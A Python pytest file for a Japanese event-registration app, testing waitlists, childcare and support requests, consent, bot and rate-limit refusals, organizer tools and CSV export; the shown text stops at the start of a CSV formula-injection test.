"""Registration: seats, waitlist and promotion, childcare and accommodations, the registrant's own page,
the organizer's dashboard, roster, CSV and "to arrange" list, permissions, privacy, the API, purge and mail."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import socket
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from bs4 import BeautifulSoup, Tag

from server.auth import accounts
from server.core import mail
from server.core.background import purge_sensitive, queue_reminders
from server.core.i18n import format_date_only, translations
from server.settings import Settings
from sessions import registration, scheduling, store
from sessions.catalog import ACCOMMODATIONS
from sessions.models import AccommodationOffer, ChildcareOffer, SessionUpdate
from sessions.registration_models import AccommodationRequestInput, ChildInput, RegistrationInput
from tests.conftest import TOKYO, html, login, make_account, make_session, make_venue, next_saturday

CHILD_NOTE = "卵アレルギーがあります"
SUPPORT_NOTE = "右耳が聞こえにくいので前の席を希望"


@pytest.fixture
def settings(tmp_path: Path, request: pytest.FixtureRequest) -> Settings:
    """No minimum fill-in time and no background loop (tests drive mail, reminders and purge themselves).

    A test may change more by indirect parametrization:
    `@pytest.mark.parametrize("settings", [{...}], indirect=True)`.
    """
    overrides = getattr(request, "param", {})
    values: dict[str, Any] = dict(db_path=tmp_path / "taiwa.sqlite3", secret="test-secret-" + "x" * 20,
                                  base_url="http://testserver.local", form_min_seconds=0, background=False)
    return Settings(**{**values, **overrides})


# ---------------------------------------------------------------- helpers

def ja(message: str, **params: Any) -> str:
    """What a Japanese reader sees for one of the app's messages."""
    text = translations("ja").gettext(message)
    return text % params if params else text


def ja_plural(singular: str, plural: str, n: int) -> str:
    return translations("ja").ngettext(singular, plural, n) % {"num": n}


def error_messages(page: Any) -> list[str]:
    """Every message next to a field and in the error summary."""
    return [text_of(node) for node in html(page).select(".field-error, .error-summary li")]


def text_of(node: Tag | None) -> str:
    assert node is not None, "the element is missing"
    return re.sub(r"\s+", " ", node.get_text(" ", strip=True))


def form_data(form: Tag) -> dict[str, Any]:
    """What a browser sends for a form as shown: hidden and filled fields, checked boxes, selected options."""
    data: dict[str, Any] = {}

    def add(name: str, value: str) -> None:
        if name in data:
            previous = data[name]
            data[name] = (previous if isinstance(previous, list) else [previous]) + [value]
        else:
            data[name] = value

    for field in form.select("input, select, textarea"):
        name = field.get("name")
        if not name or field.has_attr("disabled"):
            continue
        if field.name == "select":
            chosen = field.select_one("option[selected]") or field.select_one("option")
            if chosen is not None:
                add(name, str(chosen.get("value", chosen.get_text())))
        elif field.name == "textarea":
            add(name, field.get_text())
        elif field.get("type") in ("checkbox", "radio"):
            if field.has_attr("checked"):
                add(name, str(field.get("value", "on")))
        elif field.get("type") not in ("submit", "button"):
            add(name, str(field.get("value", "")))
    return data


def person(n: int, **more: Any) -> dict[str, Any]:
    return {"name": f"参加者{n}", "email": f"person{n}@example.jp", **more}


async def organizer(client: Any, db: Any, email: str = "staff@kanazawa.example", org: str = "kanazawa",
                    signed_in: bool = True) -> tuple[accounts.Account, int]:
    """An organizer with a venue of their organization, signed in on the client unless told otherwise."""
    account = await make_account(db, email, org=org)
    venue_id = await make_venue(db, account.org_id, name=f"{org} 市民交流センター")
    if signed_in:
        answer = await login(client, email)
        assert answer.status_code == 200 and answer.url.path == "/organize"
    return account, venue_id


async def upcoming(db: Any, org_id: int, venue_id: int | None, **values: Any) -> int:
    """A published session three weeks ahead (so default request deadlines are still open)."""
    values.setdefault("starts_at", next_saturday(weeks=3))
    return await make_session(db, org_id, venue_id, **values)


async def token_for(db: Any, account: accounts.Account) -> str:
    async with db.transaction() as conn:
        return await accounts.create_api_token(conn, account.id)


async def open_form(client: Any, session_id: int) -> dict[str, Any]:
    """The registration form as a browser would send it untouched."""
    page = await client.get(f"/sessions/{session_id}/register")
    assert page.status_code == 200, page.text
    form = html(page).select_one("form.register-form")
    assert form is not None, "the registration form is not shown"
    return form_data(form)


async def register_form(client: Any, session_id: int, **fields: Any) -> Any:
    """Fill in and send the registration form (name and email of a first person unless given)."""
    data = {**await open_form(client, session_id), **person(1), **fields}
    return await client.post(f"/sessions/{session_id}/register", data=data)


def token_of(response: Any) -> str:
    """The registrant's token from the page the form sent them to (/r/{token}?new=1)."""
    assert response.status_code == 200 and response.url.path.startswith("/r/"), (response.status_code,
                                                                                  response.url, response.text[:500])
    return response.url.path.removeprefix("/r/")


async def api_register(client: Any, session_id: int, **body: Any) -> Any:
    return await client.post(f"/api/sessions/{session_id}/registrations", json=body)


async def registered(client: Any, session_id: int, **body: Any) -> dict[str, Any]:
    answer = await api_register(client, session_id, **body)
    assert answer.status_code == 201, answer.text
    return answer.json()


def status_on(page: Any) -> tuple[str, str]:
    """The registration status as the registrant's page shows it: (kind, visible label)."""
    badge = html(page).select_one(".key-facts .status")
    assert badge is not None, "the page shows no status"
    kind = next(c.removeprefix("status--") for c in badge["class"] if c.startswith("status--"))
    return kind, text_of(badge)


def waitlist_number(page: Any) -> list[int]:
    """The numbers in the status box (the waitlist position when waitlisted)."""
    status_box = html(page).select_one(".key-facts .status").find_parent("dd")
    return [int(n) for n in re.findall(r"\d+", text_of(status_box))]


def list_items(page: Any, heading: str) -> list[str]:
    """The entries under a heading (dt) of the registrant's key facts."""
    for term in html(page).select(".key-facts dt"):
        if text_of(term) == heading:
            return [text_of(li) for li in term.find_next_sibling("dd").select("li")]
    return []


async def row_id(db: Any, email: str) -> int:
    row = await db.fetch_one("select id from registrations where email = ?", (email,))
    assert row is not None
    return int(row[0])


async def count(db: Any, table: str) -> int:
    return (await db.fetch_one(f"select count(*) from {table}"))[0]  # noqa: S608 - a fixed table name


async def outbox(db: Any, kind: str | None = None) -> list[Any]:
    rows = await db.fetch_all("select kind, registration_id, to_address from outbox order by id")
    return [row for row in rows if kind is None or row["kind"] == kind]


def childcare(places: int = 5, **values: Any) -> ChildcareOffer:
    return ChildcareOffer(places=places, min_age_months=values.pop("min_age_months", 6),
                          max_age_months=values.pop("max_age_months", 72), **values)


def past(days: int = 1) -> datetime:
    return datetime.now(timezone.utc).replace(microsecond=0) - timedelta(days=days)


# ---------------------------------------------------------------- seats and waitlist

async def test_registrations_are_confirmed_while_seats_last_then_waitlisted_in_order(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=2)
    pages = []
    for n in range(1, 5):
        token = token_of(await register_form(client, session_id, **person(n)))
        pages.append(await client.get(f"/r/{token}"))

    assert [status_on(page) for page in pages] == [("confirmed", "確定"), ("confirmed", "確定"),
                                                   ("waitlisted", "キャンセル待ち"), ("waitlisted", "キャンセル待ち")]
    assert waitlist_number(pages[2]) == [1]
    assert waitlist_number(pages[3]) == [2]


async def test_just_registered_page_tells_the_waitlist_number_at_once(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    await registered(client, session_id, **person(1))

    answer = await register_form(client, session_id, **person(2))

    assert answer.url.params.get("new") == "1"
    notice = text_of(html(answer).select_one(".notice--success"))
    assert ja("The session is full. You are on the waitlist (number %(position)d).", position=1) in notice


async def test_hybrid_session_fills_in_person_and_online_places_separately(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, format="hybrid", capacity_in_person=1, capacity_online=1,
                                online_url="https://meet.example.jp/taiwa")

    first_in_person = await register_form(client, session_id, mode="in_person", **person(1))
    second_in_person = await register_form(client, session_id, mode="in_person", **person(2))
    first_online = await register_form(client, session_id, mode="online", **person(3))
    second_online = await register_form(client, session_id, mode="online", **person(4))

    assert status_on(first_in_person)[0] == "confirmed"
    assert status_on(second_in_person)[0] == "waitlisted" and waitlist_number(second_in_person) == [1]
    assert status_on(first_online)[0] == "confirmed"
    assert status_on(second_online)[0] == "waitlisted" and waitlist_number(second_online) == [1]


async def test_seat_can_be_confirmed_while_childcare_is_waitlisted(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=10, childcare=childcare(places=1))
    await registered(client, session_id, **person(1), children=[{"age_months": 36}], consent_sensitive=True)

    page = await register_form(client, session_id, **person(2), child_1_years="2", child_1_months="6",
                               consent_sensitive="1")

    assert status_on(page)[0] == "confirmed"
    [child] = list_items(page, ja("Childcare"))
    assert ja("Waitlisted") in child
    assert ja("your seat is confirmed, but childcare is on the waitlist") in child


@pytest.mark.parametrize("settings", [{"rate_limits": False}], indirect=True)
async def test_capacity_is_never_exceeded_by_concurrent_registrations(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=10)

    answers = await asyncio.gather(*(api_register(client, session_id, **person(n)) for n in range(40)))

    assert [a.status_code for a in answers] == [201] * 40
    bodies = [a.json() for a in answers]
    assert sum(b["status"] == "confirmed" for b in bodies) == 10
    assert sorted(b["position"] for b in bodies if b["status"] == "waitlisted") == list(range(1, 31))


# ---------------------------------------------------------------- cancelling and promotion

async def test_cancel_link_asks_for_confirmation_and_changes_nothing(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    token = (await registered(client, session_id, **person(1)))["token"]

    own_page = await client.get(f"/r/{token}")
    cancel_link = html(own_page).select_one(f'a[href="/r/{token}/cancel"]')
    step = await client.get(cancel_link["href"])

    assert step.status_code == 200
    form = html(step).select_one(f'form[action="/r/{token}/cancel"]')
    assert form is not None and form["method"] == "post" and form.select_one("button[type=submit]")
    assert status_on(await client.get(f"/r/{token}"))[0] == "confirmed"
    assert await outbox(db, "cancelled") == []


async def test_cancel_without_the_forms_token_is_refused_and_changes_nothing(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)
    token = (await registered(client, session_id, **person(1)))["token"]

    answer = await client.post(f"/r/{token}/cancel", data={}, follow_redirects=False)

    assert answer.status_code == 403
    assert status_on(await client.get(f"/r/{token}"))[0] == "confirmed"


async def test_cancelling_promotes_the_first_waitlisted_with_their_child_and_request(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1, childcare=childcare(places=1),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    leaving = (await registered(client, session_id, **person(1)))["token"]
    first = await registered(client, session_id, **person(2), children=[{"age_months": 40, "notes": CHILD_NOTE}],
                             accommodations=[{"code": "sign_language"}], consent_sensitive=True)
    second = await registered(client, session_id, **person(3))
    assert (first["status"], first["childcare_status"], second["position"]) == ("waitlisted", "waitlisted", 2)

    step = await client.get(f"/r/{leaving}/cancel")
    done = await client.post(f"/r/{leaving}/cancel", data=form_data(html(step).select_one("form")))

    assert done.url.path == f"/r/{leaving}" and status_on(done)[0] == "cancelled"
    promoted = await client.get(f"/r/{first['token']}")
    assert status_on(promoted)[0] == "confirmed"
    [child] = list_items(promoted, ja("Childcare"))
    assert ja("Confirmed") in child
    [support] = list_items(promoted, ja("Support requested"))
    assert ja(ACCOMMODATIONS["sign_language"]) in support and ja("Requested") in support
    still_waiting = await client.get(f"/r/{second['token']}")
    assert status_on(still_waiting)[0] == "waitlisted" and waitlist_number(still_waiting) == [1]
    assert [row["registration_id"] for row in await outbox(db, "promoted")] == [await row_id(db, "person2@example.jp")]


async def test_cancelling_frees_the_childcare_place_for_the_next_waiting_child(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(places=1))
    leaving = await registered(client, session_id, **person(1), children=[{"age_months": 24}], consent_sensitive=True)
    waiting = await registered(client, session_id, **person(2), children=[{"age_months": 30}], consent_sensitive=True)
    assert waiting["childcare_status"] == "waitlisted"

    await client.delete(f"/api/registrations/{leaving['token']}")

    [child] = list_items(await client.get(f"/r/{waiting['token']}"), ja("Childcare"))
    assert ja("Confirmed") in child and ja("your seat is confirmed, but childcare is on the waitlist") not in child
    assert [row["registration_id"] for row in await outbox(db, "childcare_promoted")] == [
        await row_id(db, "person2@example.jp")]


async def test_cancelling_after_the_session_was_cancelled_promotes_no_one(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    leaving = await registered(client, session_id, **person(1))
    waiting = await registered(client, session_id, **person(2))
    await scheduling.cancel_session(db, await store.get_session(db, session_id), "台風のため")

    await client.delete(f"/api/registrations/{leaving['token']}")

    assert (await client.get(f"/api/registrations/{waiting['token']}")).json()["status"] == "waitlisted"
    assert await outbox(db, "promoted") == []


async def test_raising_capacity_promotes_the_waitlist_in_arrival_order(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    tokens = [(await registered(client, session_id, **person(n)))["token"] for n in range(1, 5)]

    edit = await client.get(f"/organize/sessions/{session_id}/edit")
    form = html(edit).select_one(f'form[action="/organize/sessions/{session_id}/edit"]')
    saved = await client.post(f"/organize/sessions/{session_id}/edit",
                              data={**form_data(form), "capacity_in_person": "3"}, follow_redirects=False)

    assert saved.status_code == 303
    statuses = [(await client.get(f"/api/registrations/{token}")).json() for token in tokens]
    assert [(s["status"], s.get("position")) for s in statuses] == [
        ("confirmed", None), ("confirmed", None), ("confirmed", None), ("waitlisted", 1)]
    promoted = {row["registration_id"] for row in await outbox(db, "promoted")}
    assert promoted == {await row_id(db, "person2@example.jp"), await row_id(db, "person3@example.jp")}


async def test_raising_childcare_places_promotes_waiting_children(client, db, app):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(places=1))
    await registered(client, session_id, **person(1), children=[{"age_months": 24}], consent_sensitive=True)
    waiting = await registered(client, session_id, **person(2), children=[{"age_months": 30}], consent_sensitive=True)
    assert (waiting["status"], waiting["childcare_status"]) == ("confirmed", "waitlisted")

    session = await store.get_session(db, session_id)
    await scheduling.patch_session(db, session, SessionUpdate(childcare=childcare(places=2)))
    await registration.refill_after_change(db, session_id, notify=app.litestar.state.notify)

    assert (await client.get(f"/api/registrations/{waiting['token']}")).json()["childcare_status"] == "confirmed"
    assert [row["registration_id"] for row in await outbox(db, "childcare_promoted")] == [
        await row_id(db, "person2@example.jp")]


# ---------------------------------------------------------------- consent, childcare ages, deadlines

async def test_children_without_consent_are_refused_and_nothing_is_stored(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare())

    page = await register_form(client, session_id, child_1_years="3", child_1_notes=CHILD_NOTE)

    consent = html(page).select_one(".consent")
    assert "field--error" in consent["class"]
    assert ja("To request childcare or support, agree to how we use this information. "
              "Without your agreement we cannot store it.") in text_of(consent.select_one(".field-error"))
    assert await count(db, "registrations") == 0 and await count(db, "registration_children") == 0


async def test_children_and_support_with_consent_are_stored(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])

    page = await register_form(client, session_id, child_1_years="3", child_1_months="4", child_1_notes=CHILD_NOTE,
                               acc_sign_language="1", acc_sign_language_note=SUPPORT_NOTE, consent_sensitive="1")

    assert token_of(page)
    assert len(list_items(page, ja("Childcare"))) == 1
    assert len(list_items(page, ja("Support requested"))) == 1
    child = await db.fetch_one("select age_months, notes from registration_children")
    assert (child["age_months"], child["notes"]) == (40, CHILD_NOTE)
    request = await db.fetch_one("select code, note, status from accommodation_requests")
    assert tuple(request) == ("sign_language", SUPPORT_NOTE, "requested")


async def test_child_older_than_the_childcare_range_is_refused(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(min_age_months=6, max_age_months=72))

    page = await register_form(client, session_id, child_1_years="8", consent_sensitive="1")

    message = html(page).select_one("#err-children-0-age_months")
    assert ja("Childcare here is for children aged {min} to {max} months.").format(min=6, max=72) in text_of(message)
    assert await count(db, "registrations") == 0


async def test_children_for_a_session_without_childcare_are_refused(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)

    answer = await api_register(client, session_id, **person(1), children=[{"age_months": 36}],
                                consent_sensitive=True)

    assert answer.status_code == 422
    assert answer.json()["error"]["fields"]["children"] == ja("This session does not offer childcare.")
    assert await count(db, "registrations") == 0


async def test_childcare_is_refused_for_someone_taking_part_online(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, format="hybrid", capacity_online=10,
                                online_url="https://meet.example.jp/taiwa", childcare=childcare())

    page = await register_form(client, session_id, mode="online", child_1_years="3", consent_sensitive="1")

    assert ja("Childcare is only for people taking part in person.") in error_messages(page)
    assert await count(db, "registrations") == 0


async def test_childcare_after_its_closed_deadline_is_not_offered_and_refused(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(deadline=past(1)))

    form_page = await client.get(f"/sessions/{session_id}/register")
    answer = await api_register(client, session_id, **person(1), children=[{"age_months": 36}], consent_sensitive=True)

    assert html(form_page).select_one("#f-child_1_years") is None
    assert answer.status_code == 422 and "children" in answer.json()["error"]["fields"]
    assert await count(db, "registrations") == 0


async def test_support_closed_after_its_deadline_is_shown_closed_and_refused(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    offer = AccommodationOffer(code="sign_language", mode="on_request", deadline=past(2), after_deadline="closed")
    session_id = await upcoming(db, account.org_id, venue, accommodations=[offer])

    form_page = await client.get(f"/sessions/{session_id}/register")
    box = html(form_page).select_one("#f-acc_sign_language")
    assert box.has_attr("disabled")
    assert ja("Requests closed on %(date)s.", date=format_date_only(offer.deadline)) in text_of(
        html(form_page).select_one("#hint-acc_sign_language"))

    # a browser would not send a disabled box; a hand-made post is refused all the same
    page = await register_form(client, session_id, acc_sign_language="1", consent_sensitive="1")
    assert html(page).select_one("#err-accommodations-sign_language") is not None
    assert await count(db, "registrations") == 0 and await count(db, "accommodation_requests") == 0


async def test_support_after_its_deadline_with_best_effort_is_accepted_as_may_not_be_arranged(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    offer = AccommodationOffer(code="sign_language", mode="on_request", deadline=past(2), after_deadline="best_effort")
    session_id = await upcoming(db, account.org_id, venue, accommodations=[offer])

    form_page = await client.get(f"/sessions/{session_id}/register")
    assert not html(form_page).select_one("#f-acc_sign_language").has_attr("disabled")
    assert ja("The deadline has passed; this may not be arranged.") in text_of(
        html(form_page).select_one("#hint-acc_sign_language"))
    page = await register_form(client, session_id, acc_sign_language="1", consent_sensitive="1")

    [support] = list_items(page, ja("Support requested"))
    assert ja("requested after the deadline; may not be arranged") in support
    assert (await db.fetch_one("select late from accommodation_requests"))[0] == 1


# ---------------------------------------------------------------- closed registration, unknown tokens, bots, limits

async def test_registration_that_closed_while_the_form_was_open_says_so_and_stores_nothing(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)
    filled_in = {**await open_form(client, session_id), **person(1)}
    session = await store.get_session(db, session_id)
    await scheduling.patch_session(db, session, SessionUpdate(registration_closes_at=past(1)))

    answer = await client.post(f"/sessions/{session_id}/register", data=filled_in)

    assert answer.status_code == 409
    assert ja("Registration has closed.") in text_of(html(answer).select_one('[role="alert"]'))
    assert html(answer).select_one("form.register-form") is None
    assert await count(db, "registrations") == 0


async def test_cancelled_session_takes_no_registrations(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)
    await scheduling.cancel_session(db, await store.get_session(db, session_id), "台風のため")

    form_page = await client.get(f"/sessions/{session_id}/register")
    answer = await api_register(client, session_id, **person(1))

    assert ja("This session does not take registrations.") in text_of(html(form_page).select_one('[role="alert"]'))
    assert html(form_page).select_one("form.register-form") is None
    assert answer.status_code == 409
    assert answer.json()["error"]["message"] == ja("This session does not take registrations.")
    assert await count(db, "registrations") == 0


async def test_unknown_registrant_token_is_not_found(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)
    token = (await registered(client, session_id, **person(1)))["token"]
    forged = token[:-2] + ("AA" if not token.endswith("AA") else "BB")

    assert (await client.get(f"/r/{forged}")).status_code == 404
    assert (await client.get(f"/r/{forged}/cancel")).status_code == 404
    assert (await client.get(f"/api/registrations/{forged}")).status_code == 404
    assert (await client.delete(f"/api/registrations/{forged}")).status_code == 404


@pytest.mark.parametrize("tampering", [
    pytest.param({"website": "https://spam.example"}, id="honeypot filled"),
    pytest.param({"form_stamp": ""}, id="stamp missing"),
    pytest.param({"form_stamp": "1700000000000.00000000000000000000000000000000"}, id="stamp forged"),
])
async def test_form_that_looks_automated_is_refused(client, db, tampering):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)

    answer = await register_form(client, session_id, **tampering)

    assert answer.status_code == 400
    assert html(answer).select_one(".error-summary") is not None
    assert await count(db, "registrations") == 0


@pytest.mark.parametrize("settings", [{"registrations_per_client": 3}], indirect=True)
async def test_too_many_registrations_from_one_client_are_refused(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)
    for n in range(3):
        await registered(client, session_id, **person(n))

    answer = await api_register(client, session_id, **person(4))
    through_form = await register_form(client, session_id, **person(5))

    assert answer.status_code == 429 and answer.json()["error"]["code"] == "rate_limited"
    assert through_form.status_code == 429
    assert await count(db, "registrations") == 3


@pytest.mark.parametrize("settings", [{"registrations_per_client": 3, "rate_limits": False}], indirect=True)
async def test_rate_limit_can_be_turned_off_for_load_tests(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)

    answers = [await api_register(client, session_id, **person(n)) for n in range(6)]

    assert [a.status_code for a in answers] == [201] * 6


# ---------------------------------------------------------------- the organizer's dashboard

async def test_dashboard_counts_seats_children_by_age_and_support_with_deadline(client, db):
    account, venue = await organizer(client, db)
    start = next_saturday(weeks=3)
    deadline = (start - timedelta(days=10)).replace(hour=23, minute=59, second=59, tzinfo=TOKYO)
    session_id = await make_session(
        db, account.org_id, venue, starts_at=start, format="hybrid", capacity_in_person=1, capacity_online=2,
        online_url="https://meet.example.jp/taiwa", childcare=childcare(places=3, min_age_months=0, max_age_months=120),
        accommodations=[AccommodationOffer(code="sign_language", mode="on_request", deadline=deadline)])
    await registered(client, session_id, **person(1), mode="in_person", consent_sensitive=True,
                     children=[{"age_months": 12}, {"age_months": 36}], accommodations=[{"code": "sign_language"}])
    await registered(client, session_id, **person(2), mode="in_person")
    await registered(client, session_id, **person(3), mode="online")
    leaving = await registered(client, session_id, **person(4), mode="online")
    await client.delete(f"/api/registrations/{leaving['token']}")

    page = html(await client.get(f"/organize/sessions/{session_id}/registrations"))

    in_person = text_of(page.select_one("#seats-in_person").find_parent("section"))
    online = text_of(page.select_one("#seats-online").find_parent("section"))
    for section, (confirmed, total, waitlisted, cancelled) in ((in_person, (1, 1, 1, 0)), (online, (1, 2, 0, 1))):
        assert ja("Confirmed: %(n)d / %(total)d", n=confirmed, total=total) in section
        assert ja("Waitlisted: %(n)d", n=waitlisted) in section
        assert ja("Cancelled: %(n)d", n=cancelled) in section
    bands = {text_of(row.th): text_of(row.td) for row in page.select("#childcare-totals ~ table tbody tr")}
    assert list(bands.values()) == ["1", "1", "0", "0"]
    assert [re.sub(r"\D+", "-", band).strip("-") for band in bands] == ["0-1", "2-3", "4-6", "7"]
    [support] = [text_of(li) for li in page.select("#arrange-title ~ ul li")]
    assert ja(ACCOMMODATIONS["sign_language"]) in support
    assert ja_plural("%(num)d request", "%(num)d requests", 1) in support
    assert f"{deadline.month}月{deadline.day}日" in support


async def test_answering_a_request_shows_on_the_registrants_page_and_queues_a_mail(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue,
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    token = (await registered(client, session_id, **person(1), accommodations=[{"code": "sign_language"}],
                              consent_sensitive=True))["token"]

    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    [answer_form] = roster.select('form[action^="/organize/requests/"]')
    sent = await client.post(answer_form["action"], follow_redirects=False,
                             data={**form_data(answer_form), "status": "confirmed", "message": "通訳者2名を手配しました"})

    assert sent.status_code == 303
    [support] = list_items(await client.get(f"/r/{token}"), ja("Support requested"))
    assert ja("Arranged") in support and "通訳者2名を手配しました" in support
    assert [row["registration_id"] for row in await outbox(db, "accommodation_changed")] == [
        await row_id(db, "person1@example.jp")]


async def test_check_in_by_htmx_returns_only_the_updated_row(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    await registered(client, session_id, **person(1))
    registration_id = await row_id(db, "person1@example.jp")
    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    form = roster.select_one(f"#roster-{registration_id} form.checkin-form")

    checked = await client.post(form["hx-post"], data=form_data(form), headers={"HX-Request": "true"})
    unchecked = await client.post(form["hx-post"], data=form_data(form), headers={"HX-Request": "true"})

    fragment = BeautifulSoup(checked.text, "html.parser")
    assert checked.status_code == 200 and fragment.find("html") is None and fragment.find("nav") is None
    assert [row["id"] for row in fragment.find_all("tr")] == [f"roster-{registration_id}"]
    assert fragment.select_one("button")["aria-pressed"] == "true"
    assert BeautifulSoup(unchecked.text, "html.parser").select_one("button")["aria-pressed"] == "false"


async def test_check_in_without_htmx_comes_back_to_the_roster(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    await registered(client, session_id, **person(1))
    registration_id = await row_id(db, "person1@example.jp")
    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    form = roster.select_one(f"#roster-{registration_id} form.checkin-form")

    back = await client.post(form["action"], data=form_data(form))

    assert back.url.path == f"/organize/sessions/{session_id}/registrations"
    assert html(back).select_one(f"#roster-{registration_id} button")["aria-pressed"] == "true"


async def test_staff_entry_follows_the_same_capacity_rules_and_is_marked(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    await registered(client, session_id, **person(1))
    entry_page = html(await client.get(f"/organize/sessions/{session_id}/registrations/new"))
    form = entry_page.select_one(f'form[action="/organize/sessions/{session_id}/registrations/new"]')

    roster = await client.post(form["action"], data={**form_data(form), "name": "電話 太郎", "phone": "076-220-0000"})

    assert roster.url.path == f"/organize/sessions/{session_id}/registrations"
    row = await db.fetch_one("select id, status, staff_entered from registrations where name = '電話 太郎'")
    assert (row["status"], row["staff_entered"]) == ("waitlisted", 1)
    shown = html(roster).select_one(f"#roster-{row['id']}")
    assert ja("Entered by staff") in text_of(shown.th)
    assert "status--waitlisted" in shown.select_one(".status")["class"] and "(1)" in text_of(shown)


async def test_staff_can_enter_a_walk_in_after_online_registration_closed(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    session = await store.get_session(db, session_id)
    await scheduling.patch_session(db, session, SessionUpdate(registration_closes_at=past(1)))
    entry_page = html(await client.get(f"/organize/sessions/{session_id}/registrations/new"))
    form = entry_page.select_one(f'form[action="/organize/sessions/{session_id}/registrations/new"]')

    roster = await client.post(form["action"], data={**form_data(form), "name": "当日 参加者", "phone": "076-220-0001"})

    assert roster.url.path == f"/organize/sessions/{session_id}/registrations"
    row = await db.fetch_one("select status, staff_entered from registrations")
    assert tuple(row) == ("confirmed", 1)


async def test_staff_cannot_add_registrations_to_a_cancelled_session(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    entry_page = html(await client.get(f"/organize/sessions/{session_id}/registrations/new"))
    form = entry_page.select_one(f'form[action="/organize/sessions/{session_id}/registrations/new"]')
    await scheduling.cancel_session(db, await store.get_session(db, session_id), "台風のため")

    answer = await client.post(form["action"], data={**form_data(form), "name": "当日 参加者", "phone": "076-220-0001"})

    assert ja("This session does not take registrations.") in text_of(html(answer).select_one(".error-summary"))
    assert await count(db, "registrations") == 0


async def test_change_request_from_the_registrant_reaches_the_organizer(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    token = (await registered(client, session_id, **person(1)))["token"]
    own = html(await client.get(f"/r/{token}"))
    form = own.select_one(f'form[action="/r/{token}/change"]')

    sent = await client.post(form["action"], data={**form_data(form), "message": "子どもの年齢は3歳でした"})

    assert sent.url.path == f"/r/{token}" and sent.url.params.get("sent") == "1"
    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    assert "子どもの年齢は3歳でした" in text_of(roster.select_one("#changes-title").find_parent("section"))


async def test_roster_csv_opens_in_excel_with_one_row_per_registration(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    await registered(client, session_id, **person(1), children=[{"age_months": 40, "notes": CHILD_NOTE}],
                     accommodations=[{"code": "sign_language", "note": SUPPORT_NOTE}], consent_sensitive=True)
    await registered(client, session_id, **person(2))

    answer = await client.get(f"/organize/sessions/{session_id}/registrations.csv")

    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    header, *rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    by_column = [dict(zip(header, row)) for row in rows]
    assert [row[ja("Email address")] for row in by_column] == ["person1@example.jp", "person2@example.jp"]
    assert CHILD_NOTE in by_column[0][ja("Childcare")]
    assert SUPPORT_NOTE in by_column[0][ja("Support requested")]
    assert by_column[1][ja("Childcare")] == "" and by_column[1][ja("Support requested")] == ""


async def test_roster_csv_does_not_turn_a_registrants_text_into_a_formula(client, db):
    account, venue = await organizer(client, db)
